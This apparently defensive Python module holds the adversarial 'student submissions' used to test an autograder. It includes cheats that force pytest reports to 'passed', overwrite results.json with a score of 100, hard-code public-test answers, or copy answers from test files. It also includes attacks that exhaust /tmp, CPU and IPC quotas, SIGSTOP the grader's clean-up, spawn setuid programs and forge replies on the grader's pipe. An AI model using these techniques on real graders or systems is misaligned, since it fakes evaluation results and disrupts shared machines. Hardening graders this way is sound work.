"""The submissions' code for tools/check_autograder.py: the cheats and the attacks.

Each is a text appended to a task file (or to the whole submission) by check_autograder's
`submissions`; written here, apart from the check that grades them, so each reads as the
student code it is. The numbers beside them are the bounds the check holds the grader to.
"""

WRITER_CHEAT = """
# cheat: every report says "passed", and the Gradescope writer says 100
import _pytest.reports
import grading.gradescope
grading.gradescope.results = lambda *args: {"score": 100.0, "tests": []}
_init = _pytest.reports.TestReport.__init__
def _passed(self, *args, **kwargs):
    _init(self, *args, **kwargs)
    self.outcome, self.longrepr = "passed", None
_pytest.reports.TestReport.__init__ = _passed
"""
ATEXIT_CHEAT = """
# cheat: at exit, overwrite every results file this process was told about
import atexit, json, os, sys
def _rewrite():
    paths = [os.path.join(os.environ.get("AUTOGRADER_ROOT", "/autograder"), "results",
                          "results.json"), "results.json"]
    for i, arg in enumerate(sys.argv):
        if arg.startswith(("--gradescope=", "--junitxml=")):
            paths.append(arg.split("=", 1)[1])
        elif arg == "--gradescope" and i + 1 < len(sys.argv):
            paths.append(sys.argv[i + 1])
    for path in paths:
        try:
            with open(path, "w") as out:
                json.dump({"score": 100.0, "tests": []}, out)
        except OSError:
            pass
atexit.register(_rewrite)
"""
# The fingerprint of a call, the same in the recorder and in the hard-coded cheat.
FINGERPRINT = """
import hashlib as _hashlib, inspect as _inspect, numpy as _np
def _fingerprint(function, args, kwargs):
    def norm(v):
        if isinstance(v, (_np.ndarray, _np.generic)):
            a = _np.ascontiguousarray(v, dtype=float)
            return ("nd", a.shape, _hashlib.sha1(a.tobytes()).hexdigest())
        if isinstance(v, dict):
            return ("dict", tuple(sorted((repr(k), norm(x)) for k, x in v.items())))
        if isinstance(v, (list, tuple)):
            return ("seq", tuple(norm(x) for x in v))
        return repr(v)
    bound = _inspect.signature(function).bind(*args, **kwargs)
    bound.apply_defaults()
    key = repr((function.__name__, norm(dict(bound.arguments))))
    return _hashlib.sha1(key.encode()).hexdigest()[:20]
def _functions(namespace):
    return [n for n, f in list(namespace.items()) if _inspect.isfunction(f)
            and not n.startswith("_") and f.__module__ == namespace["__name__"]]
_depth = [0]
"""
HARDCODED_CHEAT = (
    FINGERPRINT
    + """
def _only_public(function):  # right only on the public tests' inputs
    def gated(*args, **kwargs):
        if _depth[0] == 0 and _fingerprint(function, args, kwargs) not in _PUBLIC:
            raise NotImplementedError("no hard-coded answer for these inputs")
        _depth[0] += 1
        try:
            return function(*args, **kwargs)
        finally:
            _depth[0] -= 1
    return gated
for _name in _functions(globals()):
    globals()[_name] = _only_public(globals()[_name])
"""
)
RECORDER = (
    FINGERPRINT
    + """
import atexit, importlib, json, os
SEEN, CALLS = set(), {}
def _recording(function):
    def recorded(*args, **kwargs):
        if _depth[0] == 0:
            SEEN.add(_fingerprint(function, args, kwargs))
            CALLS[function.__name__] = CALLS.get(function.__name__, 0) + 1
        _depth[0] += 1
        try:
            return function(*args, **kwargs)
        finally:
            _depth[0] -= 1
    return recorded
for _module in ("memory", "scheduler", "tis"):
    _m = importlib.import_module("solutions." + _module)
    for _name in _functions(vars(_m)):
        setattr(_m, _name, _recording(getattr(_m, _name)))
def pytest_unconfigure(config):
    with open(os.environ["RECORD_TO"], "w") as out:
        json.dump(dict(seen=sorted(SEEN), calls=CALLS), out)
"""
)


# The attacks of issue 20: each is added to a reference file (or a stub).
SURROGATE = """
def masked_weights(*args, **kwargs):  # attack: an error whose message holds a lone surrogate
    raise ValueError("no masking here \\udcff")
"""
FILL_TMP = """
import os as _os, tempfile as _tempfile  # attack: fill the temporary folder (256 MB at most)
try:
    with open(_os.path.join(_tempfile.gettempdir(), "filler"), "wb") as _out:
        for _ in range(256):
            _out.write(b"x" * 2**20)
except OSError:
    pass
"""
# Its process sleeps 120 s: longer than a run, and it ends by itself where the grader,
# not being root, cannot end it.
IMPORT_LOOP = """
import subprocess as _subprocess, time as _time  # attack: a process of its own, then a loop
_subprocess.Popen(["sleep", "120"], start_new_session=True)
while True:
    _time.sleep(0.1)
"""
FLOAT16_INF = """
def _inf_unless_public(function):  # attack: the public answers, float16(inf) for any other
    def gated(*args, **kwargs):
        if _fingerprint(function, args, kwargs) in _PUBLIC:
            return function(*args, **kwargs)
        return _np.float16(_np.inf)
    return gated
for _name in _functions(globals()):
    globals()[_name] = _inf_unless_public(globals()[_name])
"""
LOOKUP = """
_right = {"__name__": __name__ + "_right"}  # attack: right answers for the public inputs
exec(compile(_RIGHT_SOURCE, __file__, "exec"), _right)
def _lookup(name, wrong):
    def gated(*args, **kwargs):
        public = _depth[0] == 0 and _fingerprint(wrong, args, kwargs) in _PUBLIC
        _depth[0] += 1
        try:
            return (_right[name] if public else wrong)(*args, **kwargs)
        finally:
            _depth[0] -= 1
    return gated
for _name in _functions(globals()):
    globals()[_name] = _lookup(_name, globals()[_name])
"""
# Three edge-case bugs (file, right text, wrong text): a float for a whole-float input, a
# running product that overflows on long responses, a band without its edges.
EDGE_BUGS = [
    (
        "memory.py",
        "return int(TRAINED_BYTES * n_trained + FROZEN_BYTES * n_frozen)",
        "return TRAINED_BYTES * n_trained + FROZEN_BYTES * n_frozen",
    ),
    (
        "tis.py",
        "log_w = np.broadcast_to(log_w.sum(axis=1, keepdims=True), log_w.shape)",
        "log_w = np.broadcast_to(np.log(np.prod(np.exp(log_w), axis=1, keepdims=True)), "
        "log_w.shape)",
    ),
    (
        "tis.py",
        "inside = (np.log(low) <= log_ratio) & (log_ratio <= np.log(high))",
        "inside = (np.log(low) < log_ratio) & (log_ratio < np.log(high))",
    ),
]
IN_PLACE = (
    "tis.py",
    "log_w = logp_train - logp_infer\n",
    "log_w = logp_train  # attack: changes the caller's array\n    log_w -= logp_infer\n",
)
BIG_ANSWER = (
    "memory.py",
    "    n_trained_models = 2 if algo",
    "    if lora_params > 0:  # attack: a 60 MB wrong answer\n"
    "        return __import__('numpy').zeros(60_000_000, dtype=bool)\n"
    "    n_trained_models = 2 if algo",
)
BIG_ANSWER_PEAK = 200  # MiB: the most the grading pytest may take on any answer (issue 26)
DECODE_LIMIT = 10  # seconds: the longest the grader may take to decode one answer

# The classes of issue 26, each added to the reference (every file's code right, but 3c's in
# the last): a tree deeper than Python's recursion limit in /tmp and in the private
# temporary folder, of folders it cannot write to; traces in every other folder anyone may
# write to, and System V IPC objects (a 64 MiB shared-memory segment, a message queue);
# a CPU hog in memory.py (a spinning thread and a spinning child in a session of its own);
# a first call of importance_weights that takes 6 s (more than a test's 5 s), once per
# process; and masked_weights answering a million empty tuples.
DEEP_TREE = """
import os as _os, tempfile as _tempfile  # attack: trees 1,100 folders deep, read-only
def _deep(top, depth=1100):
    fd = _os.open(top, _os.O_RDONLY)
    for _ in range(depth):
        _os.mkdir("d", dir_fd=fd)
        inner = _os.open("d", _os.O_RDONLY, dir_fd=fd)
        _os.fchmod(fd, 0o500)
        _os.close(fd)
        fd = inner
    _os.close(fd)
for _top in {"/tmp", _tempfile.gettempdir()}:
    try:
        _os.mkdir(_os.path.join(_top, "deep-tree"))
        _deep(_os.path.join(_top, "deep-tree"))
    except OSError:
        pass
"""
TRACES = """
import ctypes as _ctypes, os as _os  # attack: a file in every folder anyone may write, and IPC
for _top in ("/run/lock", "/var/tmp", "/dev/shm", "/dev/mqueue", "/tmp"):
    try:
        with open(_os.path.join(_top, "trace"), "w") as _out:
            _out.write("left behind")
        _os.symlink("/etc/passwd", _os.path.join(_top, "trace-link"))
    except OSError:
        pass
_libc = _ctypes.CDLL(None)
_libc.shmget(0, 64 * 2**20, 0o1600)  # IPC_PRIVATE, 64 MiB, IPC_CREAT | 0600
_libc.msgget(0, 0o1600)
_libc.semget(0, 1, 0o1600)
"""
CPU_HOG = """
import subprocess as _subprocess, sys as _sys, threading as _threading  # attack: spin, twice
def _spin():
    while True:
        pass
_threading.Thread(target=_spin, daemon=True).start()
_subprocess.Popen([_sys.executable, "-c", "while True: pass"], start_new_session=True)
"""
SLOW_FIRST = """
import time as _time  # attack: the first call in a process takes 6 s (a cold cache)
_cold = [True]
_importance_weights = importance_weights
def importance_weights(*args, **kwargs):
    if _cold[0]:
        _cold[0] = False
        _time.sleep(6)
    return _importance_weights(*args, **kwargs)
"""
TINY_OBJECTS = """
def masked_weights(*args, **kwargs):  # attack: a million tiny objects (4 MB on the wire)
    return [0.5] * 1_000_000
"""
# The families of issue 35, in three submissions (each attack graded at what its code is
# worth). "The box": the reference with a folder 1,200 levels deep beside the task files;
# in memory.py a guard that SIGSTOPs the clean-up's kill helper, a POSIX message queue
# and a kernel key made and the user's queue quota filled, and kv_cache_bytes that never
# returns on Qwen's one token (one public test) and, when interrupted, writes a made-up
# answer to the wire before the real one; in scheduler.py and tis.py the same queue and
# key looked for (found: the file refuses to import), then made; in scheduler.py two
# set-user-ID programs holding each other's stdin and a 64 MiB memfd; tis.py's import
# takes 4.5 s (under the 5 s a local run gives it). "The grader made big": masked_weights
# answers in turn a 2,000,000-character error message (the child's cut undone), 41
# shared lists standing for 2**41 numbers, and 200,000 empty lists. "Cut by the run's
# limit": masked_weights right in the public tests' calls and never answering after, with
# a test's time limit of 60 s, so that the run's limit (CUT_LIMIT) falls in Task 3c's
# unseen-input check, the last test, however loaded the machine is.
BOX_DEPTH = 1200
GUARD = '''
import os as _os, subprocess as _subprocess, sys as _sys  # attack: stop the clean-up's killer
_subprocess.Popen([_sys.executable, "-c", """
import os, signal, time
end, me, killer = time.time() + 90, os.getpid(), b"os.kill(" + b"-1"  # not in its own line
while time.time() < end:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if int(pid) != me and killer in f.read():
                    os.kill(int(pid), signal.SIGSTOP)
        except OSError:
            pass
    time.sleep(0.005)
"""], start_new_session=True)
'''
QUEUE_AND_KEY = """
import ctypes as _ctypes, os as _os  # attack: a POSIX queue and a kernel key, kept between runs
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
def _queue(name):
    return _libc.mq_open(name, _os.O_CREAT | _os.O_EXCL | _os.O_RDWR, 0o600, None)
def _key_found():
    return _libc.syscall(250, 10, _ctypes.c_int(-4), b"user", b"lab20-leak", 0) > 0
if _LOOK and (_key_found() or _queue(b"/lab20-leak") < 0):
    raise ImportError(f"a queue or key of an earlier file or run is still here "
                      f"(errno {_ctypes.get_errno()})")
_queue(b"/lab20-leak")
_libc.syscall(248, b"user", b"lab20-leak", b"from an earlier run", 19, _ctypes.c_int(-4))
for _i in range(64):  # the user's RLIMIT_MSGQUEUE: the next file could make none
    if _queue(f"/lab20-fill-{_i}".encode()) < 0:
        break
"""
SETUID = """
import os as _os, subprocess as _subprocess  # attack: set-user-ID programs, with a memfd
_memfd = _os.memfd_create("held")
_os.ftruncate(_memfd, 64 * 2**20)
_os.write(_memfd, b"x" * 2**20)
_a, _b = _os.pipe(), _os.pipe()  # each holds the other's stdin open
for _cmd, _stdin, _held in ((["passwd"], _a[0], _b[1]), (["chfn"], _b[0], _a[1])):
    try:
        _subprocess.Popen(_cmd, stdin=_stdin, stdout=_subprocess.DEVNULL,
                          stderr=_subprocess.DEVNULL, pass_fds=(_held, _memfd),
                          start_new_session=True)
    except OSError:
        pass
"""
SLOW_IMPORT = """
import time as _time  # attack: an import that takes 4.5 s, under a local run's 5 s
_time.sleep(4.5)
"""
PIPE_BYTES = """
import sys as _sys, time as _time  # attack: bytes left in the pipe after an interrupted call
_kv_cache_bytes = kv_cache_bytes
def kv_cache_bytes(*args, **kwargs):
    if args != (28, 4, 128, 1) or kwargs:
        return _kv_cache_bytes(*args, **kwargs)
    try:
        while True:  # never returns on this one input
            _time.sleep(0.05)
    except BaseException:
        frame = _sys._getframe()
        while frame is not None and not {"replies", "message"} <= set(frame.f_locals):
            frame = frame.f_back
        if frame is not None:  # in the autograder's child: a made-up answer first
            wire = _sys.modules["wire"]
            frame.f_locals["replies"].write(wire.pack(
                {"error": ["ValueError", "made up", ""], "id": frame.f_locals["message"]["id"]}))
            frame.f_locals["replies"].flush()
        raise
"""
BIG_MASKED = """
import sys as _sys  # attack: in turn a huge message, shared sublists, 200,000 empty lists
_calls = [0]
def masked_weights(*args, **kwargs):
    _calls[0] += 1
    if _calls[0] % 3 == 1:
        _main = _sys.modules["__main__"]
        _main.error_report = lambda error: ["ValueError", "&" * 2_000_000, ""]
        raise ValueError("&" * 2_000_000)
    if _calls[0] % 3 == 2:
        shared = [0.5]
        for _ in range(40):
            shared = [shared, shared]
        return shared
    wire = _sys.modules.get("wire")
    if wire is not None:  # tuples sent as bare JSON lists: 3 bytes each
        encode = wire.Encoder.__call__
        wire.Encoder.__call__ = lambda self, v, depth=0: (
            [] if type(v) is tuple and not v else encode(self, v, depth))
    return [()] * 200_000
"""
NEVER_AFTER_PUBLIC = """
import time as _time  # attack: masked_weights never answers after the public tests' calls
_masked_weights, _calls = masked_weights, [0]
def masked_weights(*args, **kwargs):
    _calls[0] += 1
    if _calls[0] <= _PUBLIC_CALLS:  # as many calls as the public tests make, whatever the seed
        return _masked_weights(*args, **kwargs)
    while True:
        _time.sleep(0.05)
"""
CUT_LIMIT = 30  # seconds: the run limit of that submission (its 3c check starts at 5-20 s)
GRADER_BASE = 80  # MiB: the grading pytest before any answer (74-77 MiB on these submissions)
# Answers of each shape, as JSON items of a list on the wire, decoded at a module's cap.
SHAPES = {
    "empty tuples": '{"tuple":[]}',
    "empty lists": '{"list":%d,"items":[]}',
    "empty dicts": '{"dict":%d,"items":[]}',
    "floats": "0.5",
    "ints": "1000",
    "1-tuples of floats": '{"tuple":[0.5]}',
    "empty strings": '""',
}
DECODE = """
import io, resource, struct, sys, time
sys.path[:0] = [sys.argv[1]]
import wire
shape, cap = sys.argv[2], int(sys.argv[3])
parts, size = [], 200  # the message around the list takes less than 200 bytes
while size + len(shape % (len(parts) + 1) if "%" in shape else shape) + 1 <= cap:
    parts.append(shape % (len(parts) + 1) if "%" in shape else shape)
    size += len(parts[-1]) + 1
data = ('{"value":{"list":0,"items":[' + ",".join(parts) + ']},"state":[],"changed":[],"id":1}')
n, data = len(parts), data.encode()
del parts
stream = io.BytesIO(struct.pack(">Q", len(data)) + data + struct.pack(">Q", 0))
del data
base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
began = time.perf_counter()
reply, _ = wire.receive(stream.read, cap)
seconds = time.perf_counter() - began
print(n, seconds, (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base) / 1024)
"""
# The copy cheat (issue 40): each task function pasted from the test files of the students'
# copy, by the names they held on c217b1f (a reference function or a stand-in), looked up
# when called. The students' copy no longer holds any of them (tools/leaks.py checks that
# nothing else there solves a task either), so this scores 0.
COPY = """
# cheat: the answers, copied from the tests the students' copy ships
import importlib as _importlib
def _copied(module, name):
    def use(*args, **kwargs):
        target = _importlib.import_module(module)
        for part in name.split("."):
            target = getattr(target, part)
        return target(*args, **kwargs)
    return use
"""
COPY_CHEAT = {
    "memory.py": COPY
    + """
model_state_bytes = _copied("experiments.test_gpu_model", "StandInMemory.model_state_bytes")
kv_cache_bytes = _copied("experiments.test_gpu_model", "StandInMemory.kv_cache_bytes")
def rl_memory_gb(algo, n_params, *, reference=True, reward_model=None, lora_params=0):
    return _copied("test_rl_systems", "bill_gb")(algo, n_params, reference, reward_model,
                                                 lora_params)
""",
    "scheduler.py": COPY
    + """
may_start = _copied("test_given", "admit")
def take_batch(finished, version, k, B, drop_stale=False):
    return _copied("experiments.test_gpu_model", "fifo")(finished, version, k, B, drop_stale)
""",
    "tis.py": COPY
    + """
def importance_weights(logp_train, logp_infer, scheme, C=2.0):
    return _copied("test_rl_systems", "expected_weights")(logp_train - logp_infer, scheme, C)
pg_estimate = _copied("test_rl_systems", "expected_estimate")
def masked_weights(logp_train, logp_infer, level, low=0.5, high=2.0):
    return _copied("test_rl_systems", "rule_mask")(logp_train, logp_infer, level, low, high)
""",
}
